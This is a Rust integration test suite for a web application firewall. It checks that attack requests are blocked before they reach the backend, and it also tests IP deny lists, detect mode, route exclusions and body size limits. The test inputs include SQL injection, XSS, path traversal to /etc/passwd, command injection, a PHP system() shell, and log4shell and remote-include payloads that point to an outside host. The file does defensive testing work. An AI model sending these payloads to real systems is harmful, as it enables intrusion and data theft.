//! The WAF through the real binary with the shipped rules (`rules/*.toml`):
//! each attack family is refused before it reaches the backend, detect mode
//! passes and logs, address lists (IPv4 and IPv6, through trusted proxies),
//! per-route off and exclusions, attacks in JSON and form bodies, bodies
//! just under, at and over `max_body` (never a truncated body upstream),
//! and `frontdesk check` on a broken rule file.

mod common;

use std::time::Duration;

use serde_json::Value;

use common::{audit_lines, client, get_json, metrics, upstream, Backend, Gateway};

fn rules_glob() -> String {
    format!("{}/rules/*.toml", env!("CARGO_MANIFEST_DIR"))
}

fn waf_section(extra: &str) -> String {
    format!(
        "[waf]\nrules = [\"{}\"]\naudit_log = \"audit.log\"\n{extra}\n",
        rules_glob()
    )
}

async fn send(
    gw: &Gateway,
    method: reqwest::Method,
    path: &str,
    headers: &[(&str, &str)],
    body: Option<Vec<u8>>,
) -> (u16, Value) {
    let mut req = client().request(method, gw.url(path));
    for (k, v) in headers {
        req = req.header(*k, *v);
    }
    if let Some(b) = body {
        req = req.body(b);
    }
    let resp = req.send().await.expect("request");
    let status = resp.status().as_u16();
    (status, resp.json().await.unwrap_or(Value::Null))
}

/// POSTs two chunks of `each` bytes with no Content-Length (chunked).
async fn post_chunked(gw: &Gateway, path: &str, each: usize) -> reqwest::Response {
    let chunks = futures::stream::iter(vec![
        Ok::<_, std::io::Error>(bytes::Bytes::from(vec![b'a'; each])),
        Ok(bytes::Bytes::from(vec![b'b'; each])),
    ]);
    client()
        .post(gw.url(path))
        .body(reqwest::Body::wrap_stream(chunks))
        .send()
        .await
        .expect("chunked request")
}

async fn eventually_audited(gw: &Gateway, n: usize) -> Vec<Value> {
    for _ in 0..50 {
        let lines = audit_lines(gw);
        if lines.len() >= n {
            return lines;
        }
        tokio::time::sleep(Duration::from_millis(50)).await;
    }
    audit_lines(gw)
}

/// (name, path and query, extra headers)
type Attack<'a> = (&'a str, &'a str, &'a [(&'a str, &'a str)]);

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn attack_families_are_blocked_before_the_backend() {
    let b = Backend::start("app").await;
    let body = format!(
        "{}\n{}\n[[routes]]\nname = \"app\"\nupstream = \"app\"\n",
        waf_section(""),
        upstream("app", &[&b], "")
    );
    let gw = Gateway::start("", &body).await;
    let get = reqwest::Method::GET;
    let attacks: &[Attack] = &[
        ("sqli", "/items?id=1%27%20OR%20%271%27%3D%271", &[]),
        (
            "sqli union",
            "/items?q=1%20UNION%20ALL%20SELECT%20password%20FROM%20users",
            &[],
        ),
        ("xss", "/search?q=%3Cscript%3Ealert(1)%3C%2Fscript%3E", &[]),
        (
            "xss handler",
            "/search?q=%22%3E%3Cimg%20src%3Dx%20onerror%3Dalert(1)%3E",
            &[],
        ),
        ("lfi", "/files?name=..%2F..%2F..%2Fetc%2Fpasswd", &[]),
        (
            "lfi encoded",
            "/download?f=%252e%252e%252fwindows%252fwin.ini",
            &[],
        ),
        ("rfi", "/page?include=http://203.0.113.5/shell.txt?", &[]),
        ("rce", "/ping?host=127.0.0.1%3Bcat%20%2Fetc%2Fpasswd", &[]),
        ("rce subst", "/ping?host=%24(whoami)", &[]),
        (
            "php",
            "/x?code=%3C%3Fphp%20system(%24_GET%5Bc%5D)%3B%20%3F%3E",
            &[],
        ),
        (
            "log4shell",
            "/",
            &[("x-api-version", "${jndi:ldap://203.0.113.5/a}")],
        ),
        ("java", "/x?cls=java.lang.Runtime", &[]),
        (
            "scanner",
            "/",
            &[("user-agent", "sqlmap/1.7.2#stable (https://sqlmap.org)")],
        ),
        (
            "shellshock",
            "/",
            &[("referer", "() { :; }; /bin/bash -c id")],
        ),
        (
            "sqli json operator",
            "/items?q=1%27%20OR%20%27%7B%22a%22%3A1%7D%27%3A%3Ajsonb%20%40%3E%20%27%7B%7D%27",
            &[],
        ),
        ("sqli split query", "/login?user=admin%27%3B", &[]),
        (
            "rce windows for",
            "/x?f=for%20%2Fr%20c%3A%5C%20%25%25g%20in%20(*.cfg)%20do%20type%20%25%25g",
            &[],
        ),
        (
            "rce brace expansion",
            "/x?f=%7Bcat%2C%2Fetc%2Fhosts%7D",
            &[],
        ),
        (
            "rce tooling command",
            "/x?f=ansible-playbook%20site.yml",
            &[],
        ),
        (
            "restricted upload name",
            "/upload",
            &[("x-filename", "../.htaccess")],
        ),
    ];
    for (name, path, headers) in attacks {
        let (status, body) = send(&gw, get.clone(), path, headers, None).await;
        assert_eq!(status, 403, "{name} ({path}) was not blocked: {body}");
        assert!(
            body["error"]
                .as_str()
                .unwrap_or("")
                .contains("blocked by the WAF"),
            "{name}: {body}"
        );
        assert!(body["request_id"].as_str().is_some_and(|id| !id.is_empty()));
    }
    assert_eq!(b.hits(), 0, "no attack reached the backend");

    // Ordinary API traffic passes: REST methods, JSON, a JWT, prose with SQL words.
    let ok: &[(reqwest::Method, &str, Option<&str>)] = &[
        (
            get.clone(),
            "/items?page=2&sort=-created_at&q=select%20a%20drop%20date",
            None,
        ),
        (
            reqwest::Method::PUT,
            "/items/42",
            Some(r#"{"name": "Drop-in table", "note": "select the 'basic' plan; it's from us"}"#),
        ),
        (
            reqwest::Method::PATCH,
            "/users/7",
            Some(r#"{"bio": "I <3 cats & dogs", "site": "https://example.com/a/b?c=d"}"#),
        ),
        (reqwest::Method::DELETE, "/items/42", None),
        // Prose that once tripped rules: a ";" before an SQL verb, TeX-style
        // `quotes', a number range, brace lists, a "find" in a sentence.
        (
            get.clone(),
            "/search?q=Here%20is%20a%20sample%3B%20alter%20the%20names%3A",
            None,
        ),
        (
            reqwest::Method::POST,
            "/comments",
            Some(
                r#"{"text": "for details type `show w'. Copyright (C) 1989; see sections 15 and 16", "tags": "{red,green}", "q": "find the best shoes"}"#,
            ),
        ),
    ];
    let jwt = "Bearer eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiJhbGljZSJ9.c2lnbmF0dXJl";
    for (m, path, json) in ok {
        let mut headers = vec![("authorization", jwt)];
        if json.is_some() {
            headers.push(("content-type", "application/json"));
        }
        let (status, body) = send(
            &gw,
            m.clone(),
            path,
            &headers,
            json.map(|j| j.as_bytes().to_vec()),
        )
        .await;
        assert_eq!(status, 200, "{m} {path} was blocked: {body}");
    }
    assert_eq!(b.hits(), ok.len());

    let m = metrics(&gw).await;
    assert!(
        m.contains(&format!(
            "frontdesk_waf_requests_total{{route=\"app\",verdict=\"blocked\"}} {}",
            attacks.len()
        )),
        "{m}"
    );
    assert!(
        m.contains(&format!(
            "frontdesk_waf_requests_total{{route=\"app\",verdict=\"pass\"}} {}",
            ok.len()
        )),
        "{m}"
    );
    assert!(
        m.contains("frontdesk_waf_rule_hits_total{rule=\"100800\"} 1"),
        "{m}"
    );

    // The audit log names the rules, the target and a truncated value,
    // never a credential.
    let lines = eventually_audited(&gw, attacks.len()).await;
    assert_eq!(lines.len(), attacks.len());
    let sqli = &lines[0];
    assert_eq!(sqli["action"], "blocked");
    assert_eq!(sqli["route"], "app");
    assert!(sqli["score"].as_u64().unwrap_or(0) >= 5);
    assert!(sqli["rules"]
        .as_array()
        .unwrap()
        .iter()
        .any(|r| r["target"] == "args:id" && r["value"].as_str().unwrap_or("").contains("or")));
    let log = std::fs::read_to_string(gw.path("audit.log")).unwrap_or_default();
    assert!(
        !log.contains("c2lnbmF0dXJl"),
        "a credential reached the audit log"
    );
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn detect_mode_lists_routes_and_exclusions() {
    let b = Backend::start("app").await;
    let lists = tempfile::tempdir().unwrap();
    let deny_file = lists.path().join("deny.txt");
    std::fs::write(
        &deny_file,
        "# test list\n192.0.2.0/24  # documentation range\n",
    )
    .unwrap();
    let body = format!(
        r#"{}
deny_ips = ["203.0.113.0/24", "2001:db8::/32"]
deny_ip_files = ["{}"]
allow_ips = ["198.51.100.7"]
{}
[[routes]]
name = "app"
path_prefix = "/app"
upstream = "app"

[[routes]]
name = "watch"
path_prefix = "/watch"
upstream = "app"
waf = "detect"

[[routes]]
name = "uploads"
path_prefix = "/uploads"
upstream = "app"
waf = "off"

[[routes]]
name = "search"
path_prefix = "/search"
upstream = "app"
waf_exclude = [100100, 100110, 100114, 100115, 100116, 100118]
"#,
        waf_section(""),
        deny_file.display(),
        upstream("app", &[&b], "")
    );
    let gw = Gateway::start("trusted_proxies = [\"127.0.0.1\"]", &body).await;

    let get = reqwest::Method::GET;
    let sqli = "?id=1%27%20OR%20%271%27%3D%271";
    // Address lists, the client taken from X-Forwarded-For of a trusted proxy.
    for (ip, expect) in [
        ("203.0.113.9", 403),
        ("2001:db8::5", 403),
        ("192.0.2.44", 403),
        ("198.51.100.8", 200),
    ] {
        let (status, body) =
            send(&gw, get.clone(), "/app/x", &[("x-forwarded-for", ip)], None).await;
        assert_eq!(status, expect, "{ip}: {body}");
    }
    // allow_ips skip the WAF entirely, even for an attack.
    let path = format!("/app/x{sqli}");
    let (status, _) = send(
        &gw,
        get.clone(),
        &path,
        &[("x-forwarded-for", "198.51.100.7")],
        None,
    )
    .await;
    assert_eq!(status, 200);
    let (status, _) = send(&gw, get.clone(), &path, &[], None).await;
    assert_eq!(status, 403);

    // detect: passes, logged and counted.
    let hits = b.hits();
    let (status, _) = send(&gw, get.clone(), &format!("/watch/x{sqli}"), &[], None).await;
    assert_eq!(status, 200);
    assert_eq!(b.hits(), hits + 1);
    // off: not even inspected.
    let (status, _) = send(&gw, get.clone(), &format!("/uploads/x{sqli}"), &[], None).await;
    assert_eq!(status, 200);
    // Exclusions: the SQL rules are off on /search, the others still apply.
    let (status, body) = send(&gw, get.clone(), &format!("/search{sqli}"), &[], None).await;
    assert_eq!(status, 200, "{body}");
    let (status, _) = send(
        &gw,
        get.clone(),
        "/search?q=%3Cscript%3Ealert(1)%3C%2Fscript%3E",
        &[],
        None,
    )
    .await;
    assert_eq!(status, 403);

    let lines = eventually_audited(&gw, 6).await;
    let actions: Vec<&str> = lines.iter().filter_map(|l| l["action"].as_str()).collect();
    assert_eq!(
        actions,
        [
            "denied_ip",
            "denied_ip",
            "denied_ip",
            "blocked",
            "detected",
            "blocked"
        ],
        "{lines:?}"
    );
    let m = metrics(&gw).await;
    assert!(
        m.contains("frontdesk_waf_requests_total{route=\"watch\",verdict=\"detected\"} 1"),
        "{m}"
    );
    assert!(
        m.contains("frontdesk_waf_requests_total{route=\"-\",verdict=\"denied_ip\"} 3"),
        "{m}"
    );
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn bodies_are_inspected_and_forwarded_intact() {
    let b = Backend::start("app").await;
    let routes = format!(
        "{}\n[[routes]]\nname = \"app\"\npath_prefix = \"/app\"\nupstream = \"app\"\n\n[[routes]]\nname = \"uploads\"\npath_prefix = \"/uploads\"\nupstream = \"app\"\nwaf = \"off\"\n",
        upstream("app", &[&b], "")
    );
    let gw = Gateway::start(
        "",
        &format!("{}\n{routes}", waf_section("max_body = \"1KiB\"")),
    )
    .await;
    let post = reqwest::Method::POST;
    let json = [("content-type", "application/json")];
    let form = [("content-type", "application/x-www-form-urlencoded")];

    // Attacks inside bodies.
    let (status, _) = send(
        &gw,
        post.clone(),
        "/app/orders",
        &json,
        Some(br#"{"order": {"note": "1' OR '1'='1"}}"#.to_vec()),
    )
    .await;
    assert_eq!(status, 403);
    let (status, _) = send(
        &gw,
        post.clone(),
        "/app/comments",
        &form,
        Some(b"name=bob&text=%3Cscript%3Ealert(1)%3C%2Fscript%3E".to_vec()),
    )
    .await;
    assert_eq!(status, 403);
    assert_eq!(b.hits(), 0);

    // Just under, at and over max_body (1024 bytes), with Content-Length.
    let sized = |n: usize| {
        let mut v = br#"{"text": ""#.to_vec();
        v.resize(n - 2, b'a');
        v.extend_from_slice(b"\"}");
        v
    };
    for n in [1023, 1024] {
        let body = sized(n);
        let expected = hex::encode(<sha2::Sha256 as sha2::Digest>::digest(&body));
        let (status, echo) = send(&gw, post.clone(), "/app/docs", &json, Some(body)).await;
        assert_eq!(status, 200, "{n} bytes");
        assert_eq!(echo["body_bytes"], n, "{n} bytes forwarded whole");
        assert_eq!(
            echo["body_sha256"],
            expected.as_str(),
            "{n} bytes forwarded intact"
        );
    }
    let (status, body) = send(&gw, post.clone(), "/app/docs", &json, Some(sized(1025))).await;
    assert_eq!(status, 413, "{body}");
    assert!(
        body["error"].as_str().unwrap_or("").contains("max_body"),
        "{body}"
    );

    // A body of undeclared length (chunked) over the limit is refused too.
    let resp = post_chunked(&gw, "/app/stream", 700).await;
    assert_eq!(resp.status(), 413);
    // ... and one under it is inspected and forwarded whole.
    let resp = post_chunked(&gw, "/app/stream", 300).await;
    assert_eq!(resp.status(), 200);
    let echo: Value = resp.json().await.unwrap();
    assert_eq!(echo["body_bytes"], 600);

    // waf = "off" streams bodies of any size, unbuffered.
    let big = vec![b'z'; 200_000];
    let expected = hex::encode(<sha2::Sha256 as sha2::Digest>::digest(&big));
    let (status, echo) = send(&gw, post.clone(), "/uploads/blob", &[], Some(big)).await;
    assert_eq!(status, 200);
    assert_eq!(echo["body_sha256"], expected.as_str());
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn an_oversized_body_can_pass_uninspected() {
    let b = Backend::start("app").await;
    let body = format!(
        "{}\n{}\n[[routes]]\nname = \"app\"\nupstream = \"app\"\n",
        waf_section("max_body = \"1KiB\"\nbody_overflow = \"pass\""),
        upstream("app", &[&b], "")
    );
    let gw = Gateway::start("", &body).await;
    let mut big = b"text=".to_vec();
    big.resize(5000, b'x');
    let expected = hex::encode(<sha2::Sha256 as sha2::Digest>::digest(&big));
    let (status, echo) = send(
        &gw,
        reqwest::Method::POST,
        "/doc",
        &[("content-type", "application/x-www-form-urlencoded")],
        Some(big),
    )
    .await;
    assert_eq!(status, 200);
    assert_eq!(echo["body_sha256"], expected.as_str());
    // The request line and headers are still inspected.
    let (status, _) = get_json(&gw.url("/doc?id=1%27%20OR%20%271%27%3D%271")).await;
    assert_eq!(status, 403);
}

#[test]
fn check_reports_rule_file_problems_with_file_line_and_id() {
    let dir = tempfile::tempdir().unwrap();
    std::fs::create_dir(dir.path().join("rules")).unwrap();
    std::fs::write(
        dir.path().join("rules/bad.toml"),
        "[[rule]]\nid = 1\nmsg = \"fine\"\ntargets = [\"args\"]\noperator = \"detect_sqli\"\n\n[[rule]]\nid = 424242\nmsg = \"broken\"\ntargets = [\"args\"]\noperator = \"regex\"\nvalue = \"(unclosed\"\n",
    )
    .unwrap();
    let conf = dir.path().join("frontdesk.toml");
    std::fs::write(
        &conf,
        "[waf]\nrules = [\"rules/*.toml\"]\nmax_body = \"1MiB\"\n\n[upstreams.u]\ntargets = [\"127.0.0.1:9\"]\n\n[[routes]]\nname = \"r\"\nupstream = \"u\"\nwaf = \"sometimes\"\n",
    )
    .unwrap();
    let (code, stderr) = common::check(&conf);
    assert_eq!(code, Some(1), "{stderr}");
    for expected in [
        "bad.toml:7: rule 424242: invalid regex",
        "waf.max_body: at most 64KiB",
        "routes[0].waf: \"sometimes\"",
    ] {
        assert!(
            stderr.contains(expected),
            "missing {expected:?} in:\n{stderr}"
        );
    }
}
